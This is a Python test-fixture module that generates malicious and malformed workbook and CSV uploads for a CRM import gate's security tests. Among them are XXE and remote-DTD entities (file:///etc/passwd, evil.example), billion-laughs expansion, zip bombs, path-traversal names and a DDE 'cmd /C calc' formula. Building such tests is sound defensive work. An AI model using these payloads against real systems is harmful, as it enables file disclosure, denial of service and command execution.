"""Files that want to do harm, and odd files that are right, each with the expected outcome (G07).

Here: the cases of `HOSTILE` and `ODD`, built in memory when asked for. Not here: the gate that
must refuse or read them (`crm.core.workbook`), the tests that use them.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime

import openpyxl
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
ROWS = [["客户名称", "手机"], ["甲公司", 13800138000], ["乙公司", "021-68881234"]]
TEXT_ROWS = [[str(cell) for cell in row] for row in ROWS]


@dataclass(frozen=True, slots=True)
class Case:
    """One file. `refused` holds the codes that are right, empty when the file must be read.

    `rows` are the filled rows expected of a file that is read; None when only the absence of a
    crash and of hostile cells counts.
    """

    name: str
    filename: str
    make: Callable[[], bytes]
    refused: frozenset[str] = frozenset()
    rows: list[list[object]] | None = None


# --- building blocks -----------------------------------------------------------------------------


def sheet(body: str, before: str = "", prolog: str = XML) -> str:
    """Return a worksheet part around the rows given."""
    return f'{prolog}<worksheet xmlns="{MAIN}">{before}<sheetData>{body}</sheetData></worksheet>'


def text_row(number: int, *values: object) -> str:
    """Return a row of inline strings and numbers, cells with references."""
    cells = []
    for index, value in enumerate(values):
        reference = f"{chr(65 + index)}{number}"
        if isinstance(value, str):
            cells.append(f'<c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c>')
        else:
            cells.append(f'<c r="{reference}"><v>{value}</v></c>')
    return f'<row r="{number}">{"".join(cells)}</row>'


GOOD_BODY = "".join(text_row(number, *row) for number, row in enumerate(ROWS, start=1))


def parts(**changes: str | bytes) -> dict[str, str | bytes]:
    """Return the parts of a small right workbook; keys such as `sheet1` replace one."""
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
        'Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        f'ContentType="{TYPES}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
        f'ContentType="{TYPES}.worksheet+xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="rId3" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet(GOOD_BODY),
        "xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}"><si><t>甲公司</t></si></sst>',
        "xl/styles.xml": f'{XML}<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0"/>'
        '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>',
    }
    paths = {
        "types": "[Content_Types].xml",
        "rels": "_rels/.rels",
        "workbook": "xl/workbook.xml",
        "links": "xl/_rels/workbook.xml.rels",
        "sheet1": "xl/worksheets/sheet1.xml",
        "strings": "xl/sharedStrings.xml",
        "styles": "xl/styles.xml",
    }
    base.update({paths.get(name, name): content for name, content in changes.items()})
    return base


def pack(content: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return the parts as a zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def book(body: str = GOOD_BODY, **changes: str | bytes) -> bytes:
    """Return a workbook with the given rows and replaced parts."""
    return pack(parts(sheet1=sheet(body), **changes))


def with_parts(**extra: str | bytes) -> bytes:
    """Return the right workbook with more parts; `__` in a key stands for a slash."""
    content = parts()
    content.update({name.replace("__", "/"): data for name, data in extra.items()})
    return pack(content)


def renamed(name: str, data: bytes = b"x") -> bytes:
    """Return the right workbook with one more part of a forbidden name."""
    content = parts()
    content[name] = data
    return pack(content)


def patched(marker: bytes, offset: int, value: bytes, every: bool = True) -> bytes:
    """Return the right workbook with bytes replaced at an offset behind a header signature."""
    data = bytearray(book())
    position = data.find(marker)
    while position >= 0:
        data[position + offset : position + offset + len(value)] = value
        position = data.find(marker, position + 4) if every else -1
    return bytes(data)


def zeros(megabytes: int) -> bytes:
    """Return that many megabytes of blanks."""
    return b" " * (megabytes * 1024 * 1024)


def _hostile(
    name: str, make: Callable[[], bytes], *codes: str, filename: str = "客户.xlsx"
) -> Case:
    return Case(name, filename, make, frozenset(codes))


def _kept(name: str, make: Callable[[], bytes], rows: list[list[object]] | None = None) -> Case:
    return Case(name, "客户.xlsx", make, rows=rows)


# --- what is not a table -------------------------------------------------------------------------

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_DISGUISES = (
    ("empty", b"", "empty_file"),
    ("one byte", b"P", "wrong_name"),
    ("old xls", _OLE, "old_xls"),
    ("old xls of 1993", b"\x09\x04\x06\x00\x00\x00\x10\x00" + bytes(64), "old_xls"),
    ("encrypted", _OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "other_format"),
    ("png", b"\x89PNG\r\n\x1a\n" + bytes(32), "other_format"),
    ("jpeg", b"\xff\xd8\xff\xe0" + bytes(32), "other_format"),
    ("gif", b"GIF89a\x01\x00\x01\x00" + bytes(32), "other_format"),
    ("windows program", b"MZ\x90\x00\x03" + bytes(64), "other_format"),
    ("linux program", b"\x7fELF\x02\x01\x01" + bytes(64), "other_format"),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(32), "other_format"),
    ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(32), "other_format"),
    ("gzip", b"\x1f\x8b\x08\x00" + bytes(32), "other_format"),
    ("bzip2", b"BZh91AY&SY" + bytes(32), "other_format"),
    ("sqlite", b"SQLite format 3\x00" + bytes(100), "other_format"),
    ("rtf", b"{\\rtf1\\ansi text}", "other_format"),
    ("web page", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "other_format"),
    ("xml of excel 2003", f"{XML}<Workbook/>".encode(), "other_format"),
    ("svg with script", b"<svg onload='alert(1)'></svg>", "other_format"),
    ("empty archive", b"PK\x05\x06" + bytes(18), "damaged"),
)


def _archive_of(*names: str) -> Callable[[], bytes]:
    return lambda: pack(dict.fromkeys(names, "x"))


def _type_cases() -> list[Case]:
    cases = [_hostile(name, lambda data=data: data, code) for name, data, code in _DISGUISES]
    html = b"\xef\xbb\xbf  <TABLE><tr><td>1</td></tr></TABLE>"
    csv_data = "客户名称,手机\n甲,1\n".encode()
    return [
        *cases,
        _hostile("web page as xls", lambda: html, "other_format", filename="客户.xls"),
        _hostile("web page as csv", lambda: html, "other_format", filename="客户.csv"),
        _hostile("word document", _archive_of("word/document.xml"), "other_format"),
        _hostile("presentation", _archive_of("ppt/presentation.xml"), "other_format"),
        _hostile("open document", _archive_of("mimetype", "content.xml"), "other_format"),
        _hostile("java archive", _archive_of("META-INF/MANIFEST.MF", "A.class"), "other_format"),
        _hostile("plain archive", _archive_of("a.txt"), "other_format"),
        _hostile("binary workbook", _archive_of("xl/workbook.bin"), "binary_workbook"),
        _hostile("macros", lambda: renamed("xl/vbaProject.bin"), "macros"),
        _hostile(
            "macros as xlsm", lambda: renamed("xl/vbaProject.bin"), "macros", filename="a.xlsm"
        ),
        _hostile("xlsm without macros", book, "macros", filename="a.XLSM"),
        _hostile("workbook as csv", book, "wrong_name", filename="客户.csv"),
        _hostile("workbook as xls", book, "wrong_name", filename="客户.xls"),
        _hostile("csv as xlsx", lambda: csv_data, "wrong_name"),
        _hostile("csv as xls", lambda: csv_data, "wrong_name", filename="客户.xls"),
        _hostile("workbook as exe", book, "extension", filename="客户.exe"),
        _hostile("two endings", book, "extension", filename="客户.xlsx.exe"),
        _hostile("no ending", book, "extension", filename="客户"),
        _hostile("path as name", book, "extension", filename="../../etc/passwd"),
        _hostile("NUL in name", book, "extension", filename="客户.xlsx\x00.php"),
        _hostile("21 MB", lambda: zeros(21), "too_large", filename="a.csv"),
    ]


# --- archives ------------------------------------------------------------------------------------

_LOCAL, _CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def _damaged_data() -> bytes:
    data = bytearray(book())
    position = data.find(b"xl/worksheets/sheet1.xml") + 24
    data[position : position + 20] = b"\xff" * 20
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory that share one body, as in a modern zip bomb."""
    content = parts()
    content["xl/worksheets/sheet2.xml"] = content["xl/worksheets/sheet1.xml"]
    data = bytearray(pack(content))
    first = struct.unpack_from("<I", data, data.find(_CENTRAL) + 42)[0]
    last = data.rfind(_CENTRAL)
    struct.pack_into("<I", data, last + 42, first)
    return bytes(data)


def _same_name_twice() -> bytes:
    data = bytearray(with_parts(**{"xl/worksheets/sheet9.xml": sheet(GOOD_BODY)}))
    return bytes(data).replace(b"sheet9.xml", b"sheet1.xml")


def _archive_cases() -> list[Case]:
    many = {f"xl/media/{number}.txt": "x" for number in range(401)}
    return [
        _hostile("cut archive", lambda: book()[:-200], "damaged"),
        _hostile("half an archive", lambda: book()[:700], "damaged"),
        _hostile("only a header", lambda: b"PK\x03\x04" + bytes(50), "damaged"),
        _hostile("damaged data", _damaged_data, "damaged"),
        _hostile("wrong checksum", lambda: patched(_CENTRAL, 16, b"\1\2\3\4"), "damaged"),
        _hostile("flag of encryption", lambda: patched(_CENTRAL, 8, b"\x01\x00"), "encrypted"),
        _hostile("unknown compression", lambda: patched(_CENTRAL, 10, b"\x63\x00"), "damaged"),
        _hostile("bzip2 compression", lambda: pack(parts(), zipfile.ZIP_BZIP2), "damaged"),
        _hostile("lzma compression", lambda: pack(parts(), zipfile.ZIP_LZMA), "damaged"),
        _hostile("wrong size in header", lambda: patched(_CENTRAL, 24, b"\1\0\0\0"), "damaged"),
        _hostile(
            "entry beyond the end", lambda: patched(_CENTRAL, 42, b"\xff\xff\xff\x0f"), "damaged"
        ),
        _hostile("overlapping entries", _overlapping, "damaged"),
        _hostile("401 parts", lambda: pack({**parts(), **many}), "zip_entries"),
        _hostile("the same name twice", _same_name_twice, "zip_names"),
        _hostile("names alike but for case", lambda: renamed("XL/WORKBOOK.XML"), "zip_names"),
        _hostile("absolute name", lambda: renamed("/etc/cron.d/x"), "zip_names"),
        _hostile("name with ..", lambda: renamed("xl/../../x"), "zip_names"),
        _hostile("name with backslash", lambda: renamed("xl\\media\\x"), "zip_names"),
        _hostile("name with drive", lambda: renamed("C:/x"), "zip_names"),
        _hostile("bomb in a picture", lambda: renamed("xl/media/a.png", zeros(250)), "bomb"),
        _hostile("bomb in the sheet", lambda: book(body=" " * 30_000_000), "bomb"),
        _hostile("bomb in the strings", lambda: book(strings=zeros(40)), "bomb"),
        _hostile("bomb in the styles", lambda: book(styles=zeros(40)), "bomb", "damaged"),
        _hostile("embedded object", lambda: renamed("xl/embeddings/oleObject1.bin"), "embedded"),
        _hostile(
            "control with code", lambda: renamed("xl/activeX/activeX1.xml", b"<a/>"), "embedded"
        ),
        _hostile(
            "link to another workbook",
            lambda: renamed("xl/externalLinks/externalLink1.xml", b"<a/>"),
            "external_links",
        ),
        _hostile("macro sheet", lambda: renamed("xl/macrosheets/sheet1.xml", b"<a/>"), "macros"),
    ]


# --- XML -----------------------------------------------------------------------------------------

_XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
_PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'


def _utf16(text: str) -> bytes:
    return text.replace("UTF-8", "UTF-16").encode("utf-16")


def _xml_cases() -> list[Case]:
    base = {name: str(content) for name, content in parts().items()}
    workbook, strings = base["xl/workbook.xml"], base["xl/sharedStrings.xml"]
    deep = "<a>" * 20_000 + "</a>" * 20_000
    return [
        _hostile(
            "entity of a file",
            lambda: pack(parts(sheet1=XML + _XXE + sheet("", prolog=""))),
            "doctype",
        ),
        _hostile(
            "laughs in strings",
            lambda: pack(parts(strings=XML + _LAUGHS + strings[len(XML) :])),
            "doctype",
        ),
        _hostile(
            "parameter entity",
            lambda: pack(parts(workbook=XML + _PARAMETER + workbook[len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in UTF-16",
            lambda: pack(parts(workbook=_utf16(XML + _XXE + workbook[len(XML) :]))),
            "doctype",
        ),
        _hostile(
            "doctype in types",
            lambda: pack(parts(types=XML + _XXE + base["[Content_Types].xml"][len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in links",
            lambda: pack(parts(links=XML + _XXE + base["xl/_rels/workbook.xml.rels"][len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in a theme",
            lambda: renamed("xl/theme/theme1.xml", f"{XML}{_XXE}<a/>".encode()),
            "doctype",
        ),
        _hostile(
            "doctype in a drawing",
            lambda: renamed("xl/drawings/a.vml", f"{_XXE}<a/>".encode()),
            "doctype",
        ),
        _hostile(
            "doctype in custom data",
            lambda: renamed("customXml/item1.xml", f"{_LAUGHS}<a/>".encode()),
            "doctype",
        ),
        _hostile("broken sheet", lambda: book(body="<row><c></row>"), "damaged"),
        _hostile("unclosed sheet", lambda: pack(parts(sheet1=sheet(GOOD_BODY)[:-30])), "damaged"),
        _hostile("unknown entity", lambda: book(body=text_row(1, "&boom;")), "damaged"),
        _hostile("NUL in the sheet", lambda: book(body=text_row(1, "a\x00b")), "damaged"),
        _hostile("control character reference", lambda: book(body=text_row(1, "&#0;")), "damaged"),
        _hostile(
            "sheet in UTF-16", lambda: pack(parts(sheet1=_utf16(sheet(GOOD_BODY)))), "damaged"
        ),
        _hostile(
            "sheet in UTF-7",
            lambda: pack(parts(sheet1=sheet(GOOD_BODY).replace("UTF-8", "UTF-7"))),
            "damaged",
        ),
        _hostile(
            "sheet with wrong bytes",
            lambda: pack(parts(sheet1=sheet(text_row(1, "甲")).encode("gbk"))),
            "damaged",
        ),
        _hostile("deep sheet", lambda: book(body=deep), "depth"),
        _hostile(
            "deep styles",
            lambda: book(styles=f'{XML}<styleSheet xmlns="{MAIN}">{deep}</styleSheet>'),
            "depth",
        ),
        _hostile("not XML at all", lambda: book(workbook=b"\x00\x01\x02"), "damaged"),
        _hostile("text instead of a sheet", lambda: pack(parts(sheet1="hello")), "damaged"),
    ]


# --- sheets --------------------------------------------------------------------------------------


def _cell(reference: str, value: object = 1, kind: str = "") -> str:
    mark = f' t="{kind}"' if kind else ""
    return f'<c r="{reference}"{mark}><v>{value}</v></c>'


def _many_rows(count: int) -> str:
    return "".join(
        f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>' for number in range(1, count + 1)
    )


def _many_strings() -> bytes:
    noise = random.Random(1)
    items = "".join(f"<si><t>{noise.getrandbits(40):x}</t></si>" for _number in range(1_000_001))
    return book(strings=f'{XML}<sst xmlns="{MAIN}">{items}</sst>')


def _many_cells() -> bytes:
    noise = random.Random(1)
    rows = "".join(
        f'<row r="{number}">' + "<c><v>%d</v></c>" * 31 % tuple(noise.randbytes(31)) + "</row>"
        for number in range(1, 97_001)
    )
    return book(body=rows)


def _sheet_cases() -> list[Case]:
    no_sheet = str(parts()["xl/workbook.xml"]).replace("worksheet", "chartsheet")
    links = str(parts()["xl/_rels/workbook.xml.rels"])
    chart = links.replace('/worksheet"', '/chartsheet"').replace("worksheets/", "chartsheets/")
    return [
        _hostile(
            "cell XFD1048576",
            lambda: book(body=f'<row r="1048576">{_cell("XFD1048576")}</row>'),
            "rows",
            "columns",
        ),
        _hostile(
            "cell in row 1048576",
            lambda: book(body=f'<row r="1048576">{_cell("A1048576")}</row>'),
            "rows",
        ),
        _hostile(
            "far cell in a near row",
            lambda: book(body=f'<row r="1">{_cell("A999999")}</row>'),
            "rows",
        ),
        _hostile("column IW", lambda: book(body=f'<row r="1">{_cell("IW1")}</row>'), "columns"),
        _hostile(
            "column of seven letters",
            lambda: book(body=f'<row r="1">{_cell("ZZZZZZZ1")}</row>'),
            "columns",
        ),
        _hostile(
            "row of 19 digits",
            lambda: book(body=f'<row r="9999999999999999999">{_cell("A1")}</row>'),
            "rows",
        ),
        _hostile("101,001 rows", lambda: book(body=_many_rows(101_001)), "rows"),
        _hostile("3,007,000 cells", _many_cells, "cells"),
        _hostile(
            "90,000 rows by 200 columns",
            lambda: book(
                body=f'<row r="1">{_cell("GR1")}</row><row r="90000">{_cell("A90000")}</row>'
            ),
            "area",
        ),
        _hostile(
            "300 cells without reference",
            lambda: book(body="<row>" + "<c><v>1</v></c>" * 300 + "</row>"),
            "columns",
        ),
        _hostile("a million strings", _many_strings, "strings"),
        _hostile("text of 40,000 characters", lambda: book(body=text_row(1, "x" * 40_000)), "text"),
        _hostile(
            "string that does not exist",
            lambda: book(body=f'<row r="1">{_cell("A1", 99999, "s")}</row>'),
            "damaged",
            "no_sheet",
        ),
        _kept(
            "string number minus one", lambda: book(body=f'<row r="1">{_cell("A1", -1, "s")}</row>')
        ),
        _hostile(
            "no worksheet",
            lambda: book(workbook=f'{XML}<workbook xmlns="{MAIN}"><sheets/></workbook>'),
            "no_sheet",
            "damaged",
        ),
        _hostile(
            "sheet that is not there",
            lambda: pack({name: data for name, data in parts().items() if "sheet1" not in name}),
            "damaged",
            "no_sheet",
        ),
        _hostile(
            "chart instead of a sheet",
            lambda: pack(
                {
                    **parts(links=chart, workbook=no_sheet),
                    "xl/chartsheets/sheet1.xml": f'<chartsheet xmlns="{MAIN}"/>',
                }
            ),
            "no_sheet",
            "damaged",
        ),
        _hostile(
            "nothing but blank cells", lambda: book(body='<row r="1"><c r="A1"/></row>'), "no_sheet"
        ),
        _hostile(
            "no links",
            lambda: pack(
                {
                    name: data
                    for name, data in parts().items()
                    if not name.endswith("workbook.xml.rels")
                }
            ),
            "damaged",
            "no_sheet",
        ),
        _kept(
            "number of a million digits",
            lambda: book(
                body=text_row(1, "客户名称", "手机")
                + f'<row r="2">{_cell("A2", "9" * 1_000_000)}</row>'
            ),
        ),
        _kept(
            "number 1e1000000",
            lambda: book(
                body=text_row(1, "客户名称", "手机")
                + f'<row r="2">{_cell("A2", "1e1000000")}</row>'
            ),
        ),
        _kept(
            "date of year 10^290",
            lambda: book(body=f'<row r="1"><c r="A1" s="1"><v>1e300</v></c>{_cell("B1")}</row>'),
        ),
        _kept(
            "negative date",
            lambda: book(body=f'<row r="1"><c r="A1" s="1"><v>-5</v></c>{_cell("B1")}</row>'),
        ),
        _kept(
            "style that does not exist",
            lambda: book(body='<row r="1"><c r="A1" s="77777"><v>1</v></c></row>'),
            [[1]],
        ),
        _kept(
            "formula with command",
            lambda: book(
                body='<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c>'
                + _cell("B1", 5)
                + "</row>"
            ),
            [["#FORMULA!", 5]],
        ),
        _kept(
            "text like a formula",
            lambda: book(body=text_row(1, '=HYPERLINK("http://evil.example")')),
            [['=HYPERLINK("http://evil.example")']],
        ),
    ]


# --- text ----------------------------------------------------------------------------------------


def _csv(name: str, data: bytes | str, *codes: str) -> Case:
    content = data if isinstance(data, bytes) else data.encode()
    return _hostile(name, lambda: content, *codes, filename="客户.csv")


def _text_cases() -> list[Case]:
    noise = random.Random(1).randbytes(3_000)
    return [
        _csv("random bytes", b"a,b\n" + noise, "not_text", "encoding"),
        _csv("NUL in a field", b"a,b\n1\x002,3\n", "not_text"),
        _csv("control characters", "a,b\n" + "\x01\x02\x03\x04" * 50, "not_text"),
        _csv(
            "damaged Chinese",
            "名称,电话\n甲,1\n".encode("gb18030") + b"\xff\xff\xff\xff,2\n",
            "encoding",
        ),
        _csv("UTF-32", "a,b\n1,2\n".encode("utf-32"), "encoding"),
        _csv("half a UTF-16", "甲,b\n1,2\n".encode("utf-16")[:-1], "encoding"),
        _csv("quote never closed", 'a,b\n"1,2\n' + "x,y\n" * 60_000, "quotes", "text"),
        _csv("300 columns", ",".join(["a"] * 300) + "\n", "columns"),
        _csv("a million commas", "a" + "," * 1_000_000 + "b\n", "columns"),
        _csv("101,001 lines", "a,b\n" * 101_001, "rows"),
        _csv("field of 40,000 characters", "a,b\n" + "x" * 40_000 + ",1\n", "text"),
    ]


def hostile() -> list[Case]:
    """Return every file that must be refused, or whose bad cells must come to nothing."""
    return [*_type_cases(), *_archive_cases(), *_xml_cases(), *_sheet_cases(), *_text_cases()]


# --- odd but right -------------------------------------------------------------------------------


def _openpyxl(
    change: Callable[[openpyxl.Workbook], None] = lambda book: None,
) -> Callable[[], bytes]:
    def make() -> bytes:
        made = openpyxl.Workbook()
        for row in ROWS:
            made.active.append(row)
        change(made)
        buffer = io.BytesIO()
        made.save(buffer)
        return buffer.getvalue()

    return make


def _xlsxwriter(**options: bool) -> Callable[[], bytes]:
    def make() -> bytes:
        buffer = io.BytesIO()
        made = xlsxwriter.Workbook(buffer, {"in_memory": True, **options})
        page = made.add_worksheet("客户")
        for number, row in enumerate(ROWS):
            page.write_row(number, 0, row)
        made.close()
        return buffer.getvalue()

    return make


def _odd(name: str, make: Callable[[], bytes], rows: list[list[object]] | None = None) -> Case:
    return Case(name, "客户.xlsx", make, rows=ROWS if rows is None else rows)


def _odd_text(name: str, data: bytes | str, rows=None, filename: str = "客户.csv") -> Case:
    content = data if isinstance(data, bytes) else data.encode()
    return Case(name, filename, lambda: content, rows=TEXT_ROWS if rows is None else rows)


def _merged_title(made: openpyxl.Workbook) -> None:
    made.active.insert_rows(1, 2)
    made.active["A1"] = "客户资料表"
    made.active.merge_cells("A1:B2")


def _hidden_first(made: openpyxl.Workbook) -> None:
    made.create_sheet("字典", 0)["A1"] = "hidden"
    made["字典"].sheet_state = "veryHidden"
    made.active = 1


def _decorated(made: openpyxl.Workbook) -> None:
    page = made.active
    page["A1"].comment = Comment("公司全称", "x")
    page["A1"].font = Font(bold=True)
    page["B2"].hyperlink = "https://example.com/"
    page["B2"].value = ROWS[1][1]
    page.freeze_panes = "B2"
    page.auto_filter.ref = "A1:B3"
    page.column_dimensions["A"].hidden = True
    page.row_dimensions[2].hidden = True
    rule = DataValidation(type="list", formula1='"甲,乙"')
    page.add_data_validation(rule)
    rule.add("A2:A100")


def _with_table(made: openpyxl.Workbook) -> None:
    made.active.add_table(Table(displayName="T", ref="A1:B3"))


def _styled_tail(made: openpyxl.Workbook) -> None:
    for line in range(4, 2_000):
        made.active.cell(line, 1).font = Font(bold=True)


def _macintosh(made: openpyxl.Workbook) -> None:
    made.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    made.active["C2"] = datetime(2024, 5, 1)


def _chinese_date(made: openpyxl.Workbook) -> None:
    made.active["C2"] = datetime(2024, 5, 1)
    made.active["C2"].number_format = 'yyyy"年"m"月"d"日"'


def _sheet_name(made: openpyxl.Workbook) -> None:
    made.active.title = "客户 & 联系人'(1)"


def _empty_first(made: openpyxl.Workbook) -> None:
    made.create_sheet("空", 0)


def _shared_book(items: str, extra: str = "") -> bytes:
    body = f'<row r="1">{_cell("A1", 0, "s")}{_cell("B1", 1, "s")}</row>{extra}'
    return book(body=body, strings=f'{XML}<sst xmlns="{MAIN}">{items}</sst>')


def _streamed() -> bytes:
    """An archive written without seeking: sizes stand behind the data."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, piece) -> int:
            self.data += piece
            return len(piece)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
    return bytes(pipe.data)


def _prefixed() -> bytes:
    body = GOOD_BODY
    for tag in ("row", "c", "v", "is", "t"):
        body = body.replace(f"<{tag} ", f"<x:{tag} ").replace(f"<{tag}>", f"<x:{tag}>")
        body = body.replace(f"</{tag}>", f"</x:{tag}>")
    page = f'{XML}<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{body}</x:sheetData></x:worksheet>'
    return pack(parts(sheet1=page))


def _without_references() -> bytes:
    return book(
        body="".join(
            "<row>"
            + "".join(
                f'<c t="str"><v>{cell}</v></c>'
                if isinstance(cell, str)
                else f"<c><v>{cell}</v></c>"
                for cell in row
            )
            + "</row>"
            for row in ROWS
        )
    )


def _odd_books() -> list[Case]:
    line = [["客户名称", "备注"]]
    dated = [ROWS[0], [*ROWS[1], datetime(2024, 5, 1)], ROWS[2]]
    wide = [f"列{number}" for number in range(256)]
    return [
        _odd("openpyxl", _openpyxl()),
        _odd("xlsxwriter", _xlsxwriter()),
        _odd("xlsxwriter, flat memory", _xlsxwriter(constant_memory=True)),
        _odd("title merged over two rows", _openpyxl(_merged_title), [["客户资料表"], *ROWS]),
        _odd("hidden sheet first", _openpyxl(_hidden_first)),
        _odd("blank sheet first", _openpyxl(_empty_first)),
        _odd("comments, filter, links, rules", _openpyxl(_decorated)),
        _odd("a table", _openpyxl(_with_table)),
        _odd("styled rows below", _openpyxl(_styled_tail)),
        _odd("dates of 1904", _openpyxl(_macintosh), dated),
        _odd("date in Chinese style", _openpyxl(_chinese_date), dated),
        _odd("odd sheet name", _openpyxl(_sheet_name)),
        _odd("not compressed", lambda: pack(parts(), zipfile.ZIP_STORED)),
        _odd("written without seeking", _streamed),
        _odd("folders as entries", lambda: pack({"xl/": "", "xl/worksheets/": "", **parts()})),
        _odd(
            "byte order mark in parts",
            lambda: pack(parts(sheet1=b"\xef\xbb\xbf" + sheet(GOOD_BODY).encode())),
        ),
        _odd(
            "a picture",
            lambda: renamed("xl/media/a.png", b"\x89PNG" + random.Random(1).randbytes(90_000)),
        ),
        _odd(
            "printer settings",
            lambda: renamed("xl/printerSettings/printerSettings1.bin", bytes(300)),
        ),
        _odd(
            "properties of WPS",
            lambda: renamed(
                "docProps/custom.xml", f'{XML}<Properties KSOProductBuildVer="2052-12.1"/>'.encode()
            ),
        ),
        _odd("prefix before every tag", _prefixed),
        _odd("cells without reference", _without_references),
        _odd("comment in the XML", lambda: book(body="<!-- <row> & <c> -->" + GOOD_BODY)),
        _odd(
            "slash and bracket in a text",
            lambda: book(body=text_row(1, "a/>b", "c]]&gt;")),
            [["a/>b", "c]]>"]],
        ),
        _odd(
            "rich text",
            lambda: _shared_book(
                "<si><r><t>客户</t></r><r><rPr><b/></rPr><t>名称</t></r></si><si><t>备注</t></si>"
            ),
            line,
        ),
        _odd(
            "reading aid",
            lambda: _shared_book(
                '<si><t>客户名称</t><rPh sb="0" eb="1"><t>ke</t></rPh></si><si><t>备注</t></si>'
            ),
            line,
        ),
        _odd(
            "escaped text",
            lambda: _shared_book("<si><t>客户名称</t></si><si><t>a&amp;b &lt;c&gt;</t></si>"),
            [["客户名称", "a&b <c>"]],
        ),
        _odd(
            "rare characters",
            lambda: _shared_book("<si><t>𠮷野家🚚</t></si><si><t>龘䶮</t></si>"),
            [["𠮷野家🚚", "龘䶮"]],
        ),
        _odd(
            "formula with a result",
            lambda: book(
                body=GOOD_BODY
                + '<row r="4"><c r="A4" t="str"><f>"丙"&amp;"公司"</f><v>丙公司</v></c></row>'
            ),
            [*ROWS, ["丙公司"]],
        ),
        _odd(
            "error in a cell",
            lambda: book(
                body=text_row(1, "客户名称") + '<row r="2"><c r="A2" t="e"><v>#N/A</v></c></row>'
            ),
            [["客户名称"]],
        ),
        _odd(
            "true and false",
            lambda: book(body=f'<row r="1">{_cell("A1", 1, "b")}{_cell("B1", 0, "b")}</row>'),
            [[True, False]],
        ),
        _odd(
            "text of 32,767 characters",
            lambda: book(body=text_row(1, "长" * 32_767)),
            [["长" * 32_767]],
        ),
        _odd("256 columns", lambda: _wide_book(wide), [wide]),
        _odd("same small row 20,000 times", lambda: book(body=_many_rows(20_000)), [[1]] * 20_000),
        _odd(
            "row numbers left out",
            lambda: book(
                body=GOOD_BODY.replace(' r="1"', "").replace(' r="2"', "").replace(' r="3"', "")
            ),
        ),
    ]


def _wide_book(names: list[str]) -> bytes:
    made = openpyxl.Workbook()
    made.active.append(names)
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def _odd_texts() -> list[Case]:
    lines = "客户名称,手机\r\n甲公司,13800138000\r\n乙公司,021-68881234\r\n"
    rare = [["客户名称", "备注"], ["𠮷野家🚚", "䶮"]]
    return [
        _odd_text("UTF-8", lines),
        _odd_text("UTF-8 with mark", lines.encode("utf-8-sig")),
        _odd_text("GB18030", lines.encode("gb18030")),
        _odd_text("GB18030, four bytes", "客户名称,备注\n𠮷野家🚚,䶮\n".encode("gb18030"), rare),
        _odd_text("UTF-16 with mark", lines.encode("utf-16")),
        _odd_text("UTF-16 big endian", b"\xfe\xff" + lines.encode("utf-16-be")),
